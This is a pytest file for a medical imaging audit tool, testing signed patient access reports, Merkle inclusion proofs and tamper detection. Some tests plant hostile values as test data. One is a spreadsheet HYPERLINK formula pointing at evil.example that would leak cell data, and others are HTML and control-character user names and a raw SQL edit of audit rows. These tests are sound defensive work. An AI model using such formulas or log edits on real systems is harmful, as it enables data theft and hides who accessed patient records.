"""The patient access report: RFC 9162 inclusion proofs that verify offline, and fail once the
store is tampered with or the saved report is edited."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from atna_corpus import every_event_id, record
from typer.testing import CliRunner

from pacsguard.atna.ingest import Sender, frame_event
from pacsguard.atna.message.build import to_xml
from pacsguard.atna.message.record import AuditRecord, Code
from pacsguard.atna.report import FORMAT, load_report, page_problems, patient_report, prove, sign_report, to_html
from pacsguard.cli import main
from pacsguard.events.model import Event, Party
from pacsguard.store import EventQuery, EventStore
from pacsguard.store.errors import StoreError
from pacsguard.store.keys import generate_key, load_private_key, load_public_key, public_path
from pacsguard.store.merkle import inclusion_proof, leaf_hash, root_of, verify_inclusion
from pacsguard.store.proofs import _levels, _path
from store_helpers import make_events, new_store, raw_sql

SENDER = Sender("10.20.0.9", 40000, "tcp", "octet-counting")
CX = "PID-0042^^^STMARY&1.2.840.99999.1&ISO"  # the corpus's patient, with its assigning authority
#: How a sealed record names that patient: bare, in CX form, and by each part of the authority.
NAMES = f"PID-0042, {CX}, PID-0042^^^STMARY, PID-0042^^^&1.2.840.99999.1&ISO"
CHANGED = ("the report's signature does not verify with the key given: the report was changed after it was made "
           "(a row removed or added, a field, the patient, the window or another member edited)")


def audit(event_id: str) -> bytes:
    return b"<85>1 - vna1 audit - IHE+RFC-3881 - " + every_event_id()[event_id]


def test_cached_paths_equal_the_recursive_definition() -> None:
    for n in (1, 2, 3, 7, 8, 9, 33):
        leaves = [leaf_hash(os.urandom(8)) for _ in range(n)]
        levels, root = _levels(leaves), root_of(leaves)
        for i in range(n):
            path = _path(i, n, levels, leaves)
            assert path == inclusion_proof(i, leaves)
            assert verify_inclusion(i, n, leaves[i], path, root)


def test_report_proves_offline_and_fails_after_tampering(tmp_path: Path) -> None:
    target = str(tmp_path / "store.db")
    store, key = new_store(target, tmp_path)
    store.append(make_events(40))
    store.append([frame_event(SENDER, audit(e)) for e in ("110110", "110104", "110112", "110103")])
    store.append(make_events(9, 40))
    store.checkpoint()
    store.append([frame_event(SENDER, audit("110106"))])  # after the checkpoint: listed, unproven
    public, private = load_public_key(public_path(key)), load_private_key(key)

    report = patient_report(store, "PID-0042", key=private)
    by_cx = patient_report(store, CX, key=private)
    assert [r["seq"] for r in report["events"]] == [r["seq"] for r in by_cx["events"]] == [40, 41, 43, 53]
    assert report["matched"] == [40, 41, 43, 53] and report["unproven"] == [53]
    assert report["events"][0]["user"] == "jsmith" and report["events"][0]["purpose"] == "treatment"
    assert prove(report, public) == [] and prove(by_cx, public) == []
    saved = tmp_path / "report.html"
    saved.write_text(to_html(report))
    assert prove(load_report(saved.read_text()), public) == []
    ok = subprocess.run([sys.executable, "-m", "pacsguard.cli", "audit", "prove", str(saved), "--key",
                         str(public_path(key))], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stderr

    edited = json.loads(json.dumps(report))
    edited["events"][1]["user"] = "someone-else"
    assert prove(edited, public) == [CHANGED, "event #41: listed fields differ from the sealed record: user"]
    forged = json.loads(json.dumps(report))
    forged["events"][0]["sealed"] = forged["events"][0]["sealed"].replace("jsmith", "mallory")
    forged["events"][0]["user"] = "mallory"
    sign_report(forged, private)  # even the key's holder cannot make a record the tree did not seal
    assert prove(forged, public) == ["event #40: not included in the signed tree of 53 events"]

    # Someone with database rights rewrites who accessed the patient: no fresh report is made, as
    # its proof of that event would not verify (before, one was signed and only `prove` failed it).
    with raw_sql(target) as cur:
        cur.execute("UPDATE event_bodies SET body = replace(body, 'jsmith', 'mallory') WHERE seq = 41")
    with pytest.raises(StoreError, match="event #41: its sealed record is not the one the tree holds"):
        patient_report(store, "PID-0042", key=private)
    store.close()


def test_an_edited_report_of_any_shape_fails_to_prove_and_never_raises(tmp_path: Path) -> None:
    """`audit prove` reads a file someone may have edited by hand: members of another JSON type, or
    dropped, at any depth (once, a string where a listed event belongs raised out of it) are each a
    reason the report does not hold, and a witness's check of it says what it cannot read; the html
    check renders any of them or says it cannot."""
    import random

    from pacsguard.atna.corroborate import corroborate

    store, key = new_store(str(tmp_path / "store.db"), tmp_path)
    store.append(make_events(10))
    store.append([frame_event(SENDER, audit(e)) for e in ("110110", "110104", "110112")])
    store.checkpoint()
    public = load_public_key(public_path(key))
    report = patient_report(store, "PID-0042", key=load_private_key(key))
    store.close()
    assert prove(report, public) == []
    page = to_html(report)
    odd: list[object] = [None, 0, -1, 1.5, True, "", "x", "\u00b2", [], {}, [None], {"a": 1}]
    rnd = random.Random(20261204)
    failed = 0
    for _ in range(600):
        edited = json.loads(json.dumps(report))
        for container, k in rnd.sample(_members(edited), rnd.randint(1, 3)):
            if isinstance(container, dict) and rnd.random() < 0.2:
                container.pop(k, None)
            else:
                container[k] = rnd.choice(odd)
        problems = prove(edited, public)
        assert all(isinstance(p, str) and p for p in problems)
        assert all(isinstance(p, str) and p for p in page_problems(page, edited))  # rendering it never raises
        failed += bool(problems)
        witnessed = corroborate(edited, [], public)
        assert witnessed.findings and all(isinstance(f, str) for _, f in witnessed.findings)
    assert failed > 590  # the signature covers every member: only an edit to the same value passes
    for top in ([], "report", 7, None):
        assert prove(top, public) == [f"not a patient report ({FORMAT})"]  # type: ignore[arg-type]


def _members(node: Any) -> list[tuple[Any, Any]]:
    """(container, key) of every member of a JSON document, at any depth."""
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    return [place for k, child in items for place in [(node, k), *_members(child)]]


def _frame(record_: AuditRecord) -> Event:
    return frame_event(SENDER, b"<85>1 - vna1 audit - IHE+RFC-3881 - " + to_xml(record_))


def test_audit_search_and_the_daily_report(tmp_path: Path) -> None:
    night = datetime(2026, 12, 3, 2, 10, tzinfo=timezone.utc)
    failed_login = replace(record("110114"), outcome="4")
    glass = replace(record("110113"), event_types=(Code("110127", "DCM", "Emergency Override Started"),))
    urgent = replace(record("110110"), time=night, purposes=(Code("ETREAT", "v3-ActReason", "Emergency Treatment"),))
    target = str(tmp_path / "store.db")
    store, _ = new_store(target, tmp_path)
    store.append([_frame(r) for r in (record("110110"), record("110104"), failed_login, glass, urgent)])
    store.close()
    runner = CliRunner()
    out = runner.invoke(main.app, ["audit", "search", "--store", target, "--user", "JSM", "--event-id", "110110",
                                   "--format", "json"])
    assert out.exit_code == 0, out.output
    found = [json.loads(line) for line in out.output.splitlines()]
    assert [f["time"] for f in found] == ["2026-12-03T09:30:15Z", "2026-12-03T02:10:00Z"]  # in order of storage
    out = runner.invoke(main.app, ["audit", "search", "--store", target, "--patient", "PID-0042", "--action", "c",
                                   "--format", "json"])
    assert [json.loads(line)["details"]["event_id"]["code"] for line in out.output.splitlines()] == [
        "110110", "110104", "110110"]  # the corpus creates (C) both; the others name no patient
    # A FHIR token, as ITI-81 takes it: that authority's patient only; another authority's is none.
    for token, count in (("urn:oid:1.2.840.99999.1|PID-0042", 3), ("urn:oid:1.2.3.4|PID-0042", 0)):
        out = runner.invoke(main.app, ["audit", "search", "--store", target, "--patient", token, "--action", "C",
                                       "--format", "json"])
        assert out.exit_code == 0 and len(out.output.splitlines()) == count, (token, out.output)
    bad = runner.invoke(main.app, ["audit", "search", "--store", target, "--patient", "a|b|c"])
    assert bad.exit_code == 2 and "--patient" in bad.output and "Traceback" not in bad.output

    out = runner.invoke(main.app, ["audit", "report", "--day", "2026-12-03", "--store", target, "--format", "json"])
    assert out.exit_code == 0, out.output
    daily = json.loads(out.output)
    assert daily["events"] == 5 and daily["top_users"] == [["jsmith", 5]]
    assert [e["kind"] for e in daily["failed_authentications"]] == ["atna.audit.user-authentication"]
    assert [e["kind"] for e in daily["security_alerts"]] == ["atna.audit.security-alert"]
    assert len(daily["break_glass"]) == 2 and len(daily["after_hours_access"]) == 1
    assert daily["per_hour"][2] == 1 and daily["per_hour"][9] == 4
    page = runner.invoke(main.app, ["audit", "report", "--day", "2026-12-03", "--store", target]).output
    assert page.startswith("<!DOCTYPE html>") and "<svg" in page and "Break-glass uses (2)" in page


def test_the_csv_report_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """A user name a compromised workstation wrote as a formula reaches the csv as text; the json
    report keeps it exactly."""
    from atna_corpus import _user

    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    hostile = record("110110")
    hostile = replace(hostile, participants=(_user(formula), *hostile.participants[1:]))
    target = str(tmp_path / "store.db")
    store, _ = new_store(target, tmp_path)
    store.append([_frame(hostile), _frame(replace(record("110110"), participants=(_user("-rm"),
                                                                                  *hostile.participants[1:])))])
    store.checkpoint()
    store.close()
    runner = CliRunner()
    as_csv = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "csv"])
    assert as_csv.exit_code == 0, as_csv.output
    cells = [c for line in csv_rows(as_csv.stdout) for c in line]
    assert "'" + formula in cells and "'-rm" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    as_json = runner.invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--format", "json"])
    assert formula in {e["user"] for e in json.loads(as_json.stdout)["events"]}


def csv_rows(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


def _site(tmp_path: Path) -> tuple[str, Path]:
    """A store whose events #40, #41 and #43 name PID-0042 (with its authority) below a checkpoint of
    53 events, and #53 after it; #44, a gateway event whose AE title holds a CR and whose user is
    HTML, names it too. Returns the store's path and its signing key."""
    target = str(tmp_path / "store.db")
    store, key = new_store(target, tmp_path)
    store.append(make_events(40))
    store.append([frame_event(SENDER, audit(e)) for e in ("110110", "110104", "110112", "110103")])
    store.append([Event(kind="dicom.dimse.c-find", component="gateway", patient_ids=("PID-0042",),
                        actor=Party("\r=1+2", "10.1.0.9", user="<b>dr who</b>"))])
    store.append(make_events(8, 40))
    store.close()  # signs the checkpoint of 53 events
    store = EventStore.open(target)  # without the key: #53 stays after the checkpoint
    store.append([frame_event(SENDER, audit("110106"))])
    store.close()
    return target, key


def _cli(*args: str) -> tuple[int, str]:
    out = CliRunner().invoke(main.app, list(args))
    return out.exit_code, " ".join(out.output.split())  # the console wraps long lines


def test_an_edited_html_page_fails_naming_what_was_edited(tmp_path: Path) -> None:
    """prove re-renders the page from the report it carries and requires the file to be exactly that:
    an edited heading or table cell fails though the embedded json is untouched."""
    target, key = _site(tmp_path)
    pub = str(public_path(key))
    made = CliRunner().invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--key", str(key),
                                         "--format", "html"])
    page = made.stdout
    assert made.exit_code == 0 and "\r" not in page and "&#13;=1+2" in page and "&lt;b&gt;dr who&lt;/b&gt;" in page
    saved = tmp_path / "access.html"
    saved.write_text(page)
    # A reader's newline translation (read_text) and a CRLF line end leave what it shows unchanged.
    assert prove(load_report(saved.read_text()), load_public_key(public_path(key))) == []
    assert page_problems(saved.read_text(), load_report(saved.read_text())) == []
    (tmp_path / "crlf.html").write_bytes(page.replace("\n", "\r\n").encode())
    assert _cli("audit", "prove", str(tmp_path / "crlf.html"), "--key", pub)[0] == 0

    row_41 = page[page.index("<tr><td>41</td>"):page.index("</tr>", page.index("<tr><td>41</td>"))]
    edits = {
        "heading": page.replace("Who accessed patient PID-0042", "Who accessed patient PID-0042 (nobody suspicious)"),
        "row of event #41": page.replace(row_41, row_41.replace("<td>jsmith</td>", "<td>innocent</td>")),
        "summary": page.replace("5 events in", "2 events in"),
        "title": page.replace("<title>Access report: PID-0042", "<title>Access report: PID-0043"),
    }
    for part, edited in edits.items():
        assert edited != page
        saved.write_text(edited)
        code, out = _cli("audit", "prove", str(saved), "--key", pub)
        assert code == 1 and f"FAILS: the html page's {part} is not what the report it carries shows" in out, out
    saved.write_text(page + "<p>all accesses were explained</p>\n")
    code, out = _cli("audit", "prove", str(saved), "--key", pub)
    assert code == 1 and "FAILS: the html page goes on after the report it carries" in out


def test_a_removed_row_or_an_edited_header_fails(tmp_path: Path) -> None:
    """The report is signed with the store's key (domain-separated from checkpoints): what a privacy
    officer reads as "every access to the patient" cannot lose a row or change its patient."""
    target, key = _site(tmp_path)
    pub = str(public_path(key))
    text = CliRunner().invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--key", str(key),
                                         "--no-checkpoint", "--format", "json"]).stdout
    report = json.loads(text)
    assert report["matched"] == [40, 41, 43, 44, 53] and report["signed"]["key_id"] == report["checkpoint"]["key_id"]
    saved = tmp_path / "report.json"
    saved.write_text(text)
    code, out = _cli("audit", "prove", str(saved), "--key", pub)
    assert code == 0 and "OK: 4 events proven against checkpoint 53" in out and "1 newer than it, unproven" in out
    assert "5 events named patient PID-0042 (at any time)" in out

    def fails(edit: dict[str, Any], *expected: str) -> None:
        saved.write_text(json.dumps(edit))
        code, out = _cli("audit", "prove", str(saved), "--key", pub)
        assert code == 1 and all(f"FAILS: {e}" in out for e in expected), out

    dropped = json.loads(text)
    del dropped["events"][2]
    fails(dropped, CHANGED, "event #43: matched (the report's list of matched events), but its row is missing")
    dropped["matched"].remove(43)
    fails(dropped, CHANGED)
    other = json.loads(text)
    other["patient"] = "PID-0043"
    fails(other, CHANGED, f"event #40: the sealed record names patient {NAMES}, not the report's patient PID-0043",
          "event #44: the sealed record names patient PID-0042, not the report's")
    narrowed = json.loads(text)
    narrowed["since"] = "2027-01-01T00:00:00+00:00"
    fails(narrowed, CHANGED, "event #40: its time 2026-12-03T09:30:15Z is outside the report's window")
    vip = {**json.loads(text), "patient": "PID-VIP", "events": [], "matched": [], "unproven": []}
    fails(vip, CHANGED)
    unsigned = json.loads(text)
    del unsigned["signed"]
    fails(unsigned, "the report is not signed")
    stranger = load_private_key(generate_key(tmp_path / "stranger.key"))
    fails(sign_report(json.loads(text), stranger), "the report was signed by key")
    fails({**json.loads(text), "format": "pacsguard-patient-report/v1"},
          f"the report predates the format {FORMAT} (it is pacsguard-patient-report/v1)")
    saved.write_text(text.replace('"patient": "PID-0042"', '"patient": "PID-VIP", "patient": "PID-0042"'))
    assert _cli("audit", "prove", str(saved), "--key", pub)[0] == 2  # two readers could see two patients

    # A patient nobody accessed: the signed report of no events is what proves it.
    saved.write_text(CliRunner().invoke(main.app, ["audit", "patient", "PID-VIP", "--store", target, "--key",
                                                   str(key), "--format", "json"]).stdout)
    code, out = _cli("audit", "prove", str(saved), "--key", pub)
    assert code == 0 and "OK: 0 events proven" in out and "0 events named patient PID-VIP (at any time)" in out

    # Without the signing key the report is written, unsigned, and does not prove.
    out = CliRunner().invoke(main.app, ["audit", "patient", "PID-0042", "--store", target, "--no-checkpoint",
                                        "--format", "json"])
    assert out.exit_code == 0 and "the report is not signed (no signing key found" in " ".join(out.stderr.split())
    saved.write_text(out.stdout)
    assert "FAILS: the report is not signed" in _cli("audit", "prove", str(saved), "--key", pub)[1]


def test_every_listed_event_names_the_patient_within_the_window(tmp_path: Path) -> None:
    """Checked per event against its sealed record, whatever signed the report: a report made for
    another patient or window (by a bug, or by the key's holder) does not prove."""
    target, key = _site(tmp_path)
    public, private = load_public_key(public_path(key)), load_private_key(key)
    store = EventStore.open(target)
    try:
        bare, by_cx = patient_report(store, "PID-0042", key=private), patient_report(store, CX, key=private)
        since = datetime(2026, 12, 3, 9, 30, 15, 1, tzinfo=timezone.utc)  # just after the corpus's events
        later = patient_report(store, "PID-0042", since=since, key=private)
    finally:
        store.close()
    assert prove(bare, public) == prove(by_cx, public) == prove(later, public) == []
    assert [r["seq"] for r in later["events"]] == [44]
    assert [r["seq"] for r in by_cx["events"]] == [40, 41, 43, 53]  # #44 names the bare ID only

    other = sign_report({**json.loads(json.dumps(by_cx)), "patient": "PID-0042^^^OTHER&9.9&ISO"}, private)
    assert [p.split(":")[0] for p in prove(other, public)] == ["event #40", "event #41", "event #43", "event #53"]
    assert prove(other, public)[0] == (f"event #40: the sealed record names patient {NAMES}, not the report's "
                                       "patient PID-0042^^^OTHER&9.9&ISO")
    widened = sign_report({**json.loads(json.dumps(bare)), "since": since.isoformat()}, private)
    assert prove(widened, public) == [f"event #{s}: its time 2026-12-03T09:30:15Z is outside the report's window"
                                      for s in (40, 41, 43, 53)]


def test_only_events_newer_than_the_checkpoint_may_be_unproven(tmp_path: Path) -> None:
    """An event below the checkpoint's tree size without its proof fails; an unproven one is still
    checked against the sealed record it carries."""
    target, key = _site(tmp_path)
    public, private = load_public_key(public_path(key)), load_private_key(key)
    store = EventStore.open(target)
    try:
        report = patient_report(store, "PID-0042", key=private)
    finally:
        store.close()
    assert report["unproven"] == [53] and "sealed" in report["events"][-1]

    def resigned(edit: Any) -> dict[str, Any]:
        edited: dict[str, Any] = json.loads(json.dumps(report))
        edit(edited)
        return sign_report(edited, private)

    def hide_proof(r: dict[str, Any]) -> None:
        del r["events"][0]["proof"]
        r["unproven"] = [40, 53]

    assert prove(resigned(hide_proof), public) == [
        "event #40: no inclusion proof, though it is below the checkpoint's tree size 53 (only events newer than "
        "the checkpoint may be unproven)"]
    assert prove(resigned(lambda r: r["events"][-1].update(user="nobody")), public) == [
        "event #53: listed fields differ from the sealed record: user"]
    assert prove(resigned(lambda r: r["events"][-1].update(sealed=r["events"][-1]["sealed"].replace(
        "PID-0042", "PID-0099"))), public) == [
        "event #53: listed fields differ from the sealed record: patient_ids",
        f"event #53: the sealed record names patient {NAMES.replace('0042', '0099')}, not the report's "
        "patient PID-0042"]
    assert prove(resigned(lambda r: r.update(unproven=[])), public) == [
        "the report's unproven list [] is not its events without a proof [53]"]


def test_the_report_names_the_user_by_login_with_the_display_name_beside_it(tmp_path: Path) -> None:
    """The user column is the UserID (PS3.15 A.5.2.1: the identity; UserName is a display name two
    users may share), with the display name after it; a message stored while the user was the
    UserName keeps that in its row, so reports made then still prove. The daily report counts top
    users by login, also for such a message."""
    from pacsguard.atna.daily import summarise
    from pacsguard.atna.message.record import Participant
    from pacsguard.atna.report import to_csv

    def read_by(user: str, name: str) -> Event:
        base = record("110110")
        r = replace(base, participants=(Participant(user, user_name=name, requestor=True), *base.participants[1:]))
        return frame_event(SENDER, b"<85>1 - vna1 audit - IHE+RFC-3881 - " + to_xml(r))

    store, key = new_store(str(tmp_path / "store.db"), tmp_path)
    older = read_by("jsmith", "John Smith")
    older = replace(older, actor=replace(older.actor, user="John Smith"))  # as stored before
    store.append([read_by("jsmith", "John Smith"), older, read_by("jsmith2", "John Smith")])
    store.checkpoint()
    public, private = load_public_key(public_path(key)), load_private_key(key)
    report = patient_report(store, "PID-0042", key=private)
    assert [(r["user"], r.get("user_name")) for r in report["events"]] == [
        ("jsmith", "John Smith"), ("John Smith", None), ("jsmith2", "John Smith")]
    assert prove(report, public) == []
    page = to_html(report)
    assert "<td>jsmith (John Smith)</td>" in page and "<td>jsmith2 (John Smith)</td>" in page
    assert prove(load_report(page), public) == [] and page_problems(page, report) == []
    assert "jsmith (John Smith)" in to_csv(report)
    stripped = json.loads(json.dumps(report))
    del stripped["events"][0]["user_name"]
    sign_report(stripped, private)
    assert prove(stripped, public) == ["event #0: listed fields differ from the sealed record: user_name"]

    day = summarise((s.event for s in store.search(EventQuery(limit=None))), record("110110").time.date())
    assert day["top_users"] == [("jsmith", 2), ("jsmith2", 1)]
    store.close()
